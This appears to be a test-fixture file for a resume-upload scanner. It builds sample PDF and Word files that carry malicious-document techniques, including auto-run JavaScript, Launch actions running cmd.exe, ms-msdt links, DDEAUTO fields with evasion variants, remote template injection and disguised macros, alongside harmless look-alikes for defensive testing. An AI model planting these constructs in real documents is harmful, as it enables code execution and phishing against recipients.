/** Valid resumes that do more than hold text: each with what staff have to be told of it. */
import { deflateSync } from 'node:zlib';
import type { ResumeRisk } from '../../shared/resume-risks.ts';
import { makeCompoundFile, wordStream } from './compound-file.ts';
import type { SampleFile } from './resumes.ts';
import { documentXml, makeDocx } from './zip.ts';

type PdfObject = string | Buffer;

/** A PDF of these objects, numbered from 1. The first is the catalog. */
export function pdfOf(objects: readonly PdfObject[]): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = pieces[0]?.length ?? 0;
  for (const [index, body] of objects.entries()) {
    offsets.push(length);
    const piece = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(body as string, 'latin1'),
      Buffer.from('\nendobj\n'),
    ]);
    pieces.push(piece);
    length += piece.length;
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Root 1 0 R /Size ${size} >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...pieces, Buffer.from(table)]);
}

const text = 'BT /F1 24 Tf 72 760 Td (Asha Rao) Tj 0 -32 Td (Skills: HTML/JavaScript) Tj ET';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Two pages with a catalog, a page and further objects (from 7 on) that have something of their own. */
export function pdfPages({ catalog = '', page = '', more = [] as readonly PdfObject[] } = {}): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> ${page} >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    font,
    ...more,
  ]);
}

/** A stream of objects with these bodies, numbered from 20 on, as a writer or a forger puts it. */
export function objectStream(
  bodies: readonly string[],
  { entries = '/Type /ObjStm', pack = true, damage = (packed: Buffer): Buffer => packed } = {},
): Buffer {
  let header = '';
  let offset = 0;
  for (const [index, body] of bodies.entries()) {
    header += `${20 + index} ${offset} `;
    offset += body.length + 1;
  }
  const plain = Buffer.from(`${header}${bodies.join(' ')}`, 'latin1');
  const content = damage(pack ? deflateSync(plain) : plain);
  const filter = pack ? '/Filter /FlateDecode' : '';
  const head = `<< ${entries} /N ${bodies.length} /First ${header.length} ${filter} /Length ${content.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head, 'latin1'), content, Buffer.from('\nendstream')]);
}

export const alertAction = '<< /S /JavaScript /JS (app.alert\\("Your session has ended"\\)) >>';

function link(action: string): string {
  return `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>]`;
}

const attachment = [
  '<< /Type /Filespec /F (tool.exe) /EF << /F 8 0 R >> >>',
  '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
];

const relationship = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationships = (...items: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;
const related = (type: string, target: string, mode = '') =>
  `<Relationship Id="r${target.length}" Type="${relationship}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;
const fields = (...runs: string[]) => ({ text: documentXml().replace('<w:r>', `${runs.join('')}<w:r>`) });
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const instruction = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`;

function docWith(words: string, encoding: 'latin1' | 'utf16le', streams: Record<string, Buffer> = {}): Buffer {
  const stream = wordStream();
  Buffer.from(words, encoding).copy(stream, 1024);
  return makeCompoundFile({ WordDocument: stream, ...streams });
}

type Sample = readonly [what: string, risks: readonly ResumeRisk[], content: Buffer];

export const riskyPdfs: readonly Sample[] = [
  ['runs a script when it is opened', ['script'], pdfPages({ catalog: `/OpenAction ${alertAction}` })],
  [
    'runs a script, written in escapes',
    ['script'],
    pdfPages({ catalog: '/Open#41ction << /#53 /J#61va#53cript /J#53 (app.alert\\(1\\)) >>' }),
  ],
  ['names its scripts', ['script'], pdfPages({ catalog: '/Names << /JavaScript 7 0 R >>', more: ['<< /Names [] >>'] })],
  [
    'has its script in an object stream',
    ['script'],
    pdfPages({ page: link('20 0 R'), more: [objectStream([alertAction])] }),
  ],
  [
    'has the type of its action in another object',
    ['script'],
    pdfPages({ page: link('<< /S 7 0 R /JS (1) >>'), more: ['/JavaScript'] }),
  ],
  [
    'has an object stream that cannot be unpacked',
    ['unchecked'],
    pdfPages({ more: [objectStream([alertAction], { damage: (packed) => packed.fill(0xff, 2) })] }),
  ],
  ['opens by an action in another object', ['script'], pdfPages({ catalog: '/OpenAction 7 0 R', more: [alertAction] })],
  ['starts a program', ['outside'], pdfPages({ page: link('<< /S /Launch /F (calc.exe) >>') })],
  [
    'starts a program when it is opened',
    ['outside'],
    pdfPages({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
  ],
  ['links to a script', ['script'], pdfPages({ page: link('<< /S /URI /URI (Java\\nscript:alert\\(1\\)) >>') })],
  [
    'links to a program of the system',
    ['outside'],
    pdfPages({ page: link(`<< /S /URI /URI <${Buffer.from('ms-msdt:/id x').toString('hex')}> >>`) }),
  ],
  ['links to a shared folder', ['outside'], pdfPages({ page: link('<< /S /URI /URI (file://there/share/x.exe) >>') })],
  [
    'leads to an article elsewhere',
    ['outside'],
    pdfPages({ page: link('<< /S /Thread /F (//there/share/x.pdf) /D 0 >>') }),
  ],
  [
    'sends a form',
    ['outside'],
    pdfPages({ page: link('<< /S /SubmitForm /F << /FS /URL /F (https://elsewhere.example/) >> >>') }),
  ],
  ['reads a form from elsewhere', ['outside'], pdfPages({ page: link('<< /S /ImportData /F (//there/data.fdf) >>') })],
  [
    'leads to a file elsewhere',
    ['outside'],
    pdfPages({ page: link('<< /S /GoToR /F (//there/share/x.pdf) /D [0 /Fit] >>') }),
  ],
  [
    'has a file attached',
    ['attachment'],
    pdfPages({ catalog: '/Names << /EmbeddedFiles << /Names [(tool) 7 0 R] >> >>', more: attachment }),
  ],
  [
    'plays media',
    ['attachment'],
    pdfPages({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]' }),
  ],
  [
    'is a form of its own kind',
    ['script'],
    pdfPages({ catalog: '/AcroForm << /XFA [(template) 7 0 R] >>', more: ['<< >>'] }),
  ],
];

export const riskyWords: readonly (readonly [...Sample, 'doc' | 'docx'])[] = [
  [
    'loads its template from elsewhere',
    ['outside'],
    makeDocx({
      parts: {
        'word/_rels/settings.xml.rels': relationships(
          related('attachedTemplate', 'https://elsewhere.example/x.dotm', 'External'),
        ),
      },
    }),
    'docx',
  ],
  [
    'loads its template from a shared folder',
    ['outside'],
    makeDocx({
      parts: {
        'word/_rels/settings.xml.rels': relationships(
          related('attachedTemplate', 'file:///\\\\there\\share\\x.dotm', 'External'),
        ),
      },
    }),
    'docx',
  ],
  [
    'shows a picture from elsewhere',
    ['outside'],
    makeDocx({
      parts: {
        'word/_rels/document.xml.rels': relationships(related('image', 'https://elsewhere.example/x.png', 'External')),
      },
    }),
    'docx',
  ],
  [
    'has an object from elsewhere',
    ['outside'],
    makeDocx({
      parts: {
        'word/_rels/document.xml.rels': relationships(
          related('oleObject', 'mhtml:https://elsewhere.example/x.html!x', 'External'),
        ),
      },
    }),
    'docx',
  ],
  [
    'has a file embedded',
    ['attachment'],
    makeDocx({
      parts: {
        'word/_rels/document.xml.rels': relationships(related('package', 'embeddings/sheet.xlsx')),
        'word/embeddings/sheet.xlsx': 'PK',
      },
    }),
    'docx',
  ],
  [
    'has an active control',
    ['macros'],
    makeDocx({
      parts: {
        'word/activeX/activeX1.xml': '<ax/>',
        'word/_rels/document.xml.rels': relationships(related('control', 'activeX/activeX1.xml')),
      },
    }),
    'docx',
  ],
  [
    'fetches data from a program, in pieces',
    ['outside'],
    makeDocx(fields(begin, instruction(' D'), instruction('DEA&#85;TO c:\\\\cmd.exe "/k calc"'), end)),
    'docx',
  ],
  [
    'fetches data from a program, in one tag',
    ['outside'],
    makeDocx({ text: documentXml().replace('<w:r>', '<w:fldSimple w:instr=" DDE excel x"/><w:r>') }),
    'docx',
  ],
  [
    'includes a text from elsewhere',
    ['outside'],
    makeDocx(fields(begin, instruction(' INCLUDETEXT "https://elsewhere.example/x.xml" '), end)),
    'docx',
  ],
  [
    'writes in references that its template is elsewhere',
    ['outside'],
    makeDocx({
      parts: {
        'word/_rels/settings.xml.rels': relationships(
          related('attachedTempl&#97;te', 'https://elsewhere.example/x.dotm', 'Extern&#x61;l'),
        ),
      },
    }),
    'docx',
  ],
  [
    'has a part in wide characters without a mark',
    ['outside'],
    makeDocx({
      parts: {
        'word/_rels/settings.xml.rels': Buffer.from(
          relationships(related('attachedTemplate', 'https://elsewhere.example/x.dotm', 'External')),
          'utf16le',
        ),
      },
    }),
    'docx',
  ],
  [
    'has a page embedded as a part of its text',
    ['attachment'],
    makeDocx({
      parts: { 'word/_rels/document.xml.rels': relationships(related('aFChunk', 'x.htm')), 'word/x.htm': '<p>' },
    }),
    'docx',
  ],
  [
    'has macros under another name',
    ['macros'],
    makeDocx({
      parts: { 'word/_rels/document.xml.rels': relationships(related('vbaProject', 'x.bin')), 'word/x.bin': 'x' },
    }),
    'docx',
  ],
  [
    'has buttons of its own for Word',
    ['macros'],
    makeDocx({ parts: { 'word/_rels/document.xml.rels': relationships(related('ui/extensibility', 'ui.xml')) } }),
    'docx',
  ],
  [
    'links to a program of the system',
    ['outside'],
    makeDocx({
      parts: { 'word/_rels/document.xml.rels': relationships(related('hyperlink', 'ms-msdt:/id', 'External')) },
    }),
    'docx',
  ],
  [
    'fetches data from a database',
    ['outside'],
    makeDocx(fields(begin, instruction(' DATABASE \\d "//there/x.mdb"'), end)),
    'docx',
  ],
  ['has macros', ['macros'], docWith('', 'latin1', { _VBA_PROJECT: Buffer.alloc(99) }), 'doc'],
  [
    'has objects',
    ['attachment'],
    makeCompoundFile({ WordDocument: wordStream() }, { embedded: { '\u0001Ole10Native': Buffer.alloc(99) } }),
    'doc',
  ],
  [
    'fetches data from a program',
    ['outside'],
    docWith('\u0013 DDEAUTO c:\\cmd.exe "/k calc" \u0014x\u0015', 'latin1'),
    'doc',
  ],
  [
    'fetches data from a program, far behind the beginning of the field',
    ['outside'],
    docWith(`\u0013${' '.repeat(60)}DDEAUTO c:\\cmd.exe "/k calc" \u0014x\u0015`, 'utf16le'),
    'doc',
  ],
  [
    'fetches data from a program, in wide characters',
    ['outside'],
    docWith('\u0013 ddeauto c:\\cmd.exe "/k calc" \u0014x\u0015', 'utf16le'),
    'doc',
  ],
];

/** Valid resumes that look alike and do nothing. */
export const harmlessResumes: readonly (readonly [what: string, content: Buffer, 'pdf' | 'doc' | 'docx'])[] = [
  ['that mentions scripts in its text', pdfPages(), 'pdf'],
  ['that opens at a place', pdfPages({ catalog: '/OpenAction [3 0 R /Fit]' }), 'pdf'],
  [
    'that opens at a place named in another object',
    pdfPages({ catalog: '/OpenAction 7 0 R', more: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
    'pdf',
  ],
  [
    'that opens at a place named in an object stream',
    pdfPages({ catalog: '/OpenAction 20 0 R', more: [objectStream(['<< /S /GoTo /D [3 0 R /Fit] >>'])] }),
    'pdf',
  ],
  ['with a link to the web', pdfPages({ page: link('<< /S /URI /URI (https://github.com/asha) >>') }), 'pdf'],
  [
    'with an outline',
    pdfPages({
      catalog: '/Outlines 7 0 R',
      more: ['<< /First 8 0 R /Last 8 0 R /Count 1 >>', '<< /Title (Work) /Parent 7 0 R /First 8 0 R >>'],
    }),
    'pdf',
  ],
  [
    'with a link to the web and a template of its own',
    makeDocx({
      parts: {
        'word/_rels/document.xml.rels': relationships(related('hyperlink', 'https://github.com/asha', 'External')),
        'word/_rels/settings.xml.rels': relationships(
          related('attachedTemplate', 'file:///C:\\Users\\asha\\Normal.dotm', 'External'),
        ),
      },
    }),
    'docx',
  ],
  [
    'with fields for pages and dates',
    makeDocx(fields(begin, instruction(' PAGE '), end, begin, instruction(' HYPERLINK "https://x.example" '), end)),
    'docx',
  ],
  [
    'with links of all harmless kinds',
    makeDocx({
      parts: {
        'word/_rels/document.xml.rels': relationships(
          ...[
            'mailto:a@x.example',
            'tel:+91',
            'www.x.example:80/a',
            'file:///home/asha/a.pdf',
            'file:///C:/a.pdf',
            'a.pdf',
            '#b',
          ].map((target) => related('hyperlink', target, 'External')),
        ),
      },
    }),
    'docx',
  ],
  ['that mentions DDE in its text', docWith('Skills: DDE, DDEAUTO', 'latin1'), 'doc'],
];

/** A sample as an applicant sends it. */
export function sampleNamed(what: string): SampleFile {
  const pdf = riskyPdfs.find(([name]) => name === what);
  if (pdf) return { name: 'resume.pdf', content: pdf[2] };
  const word = riskyWords.find(([name]) => name === what);
  if (word) return { name: `resume.${word[3]}`, content: word[2] };
  throw new Error(`There is no resume that ${what}`);
}
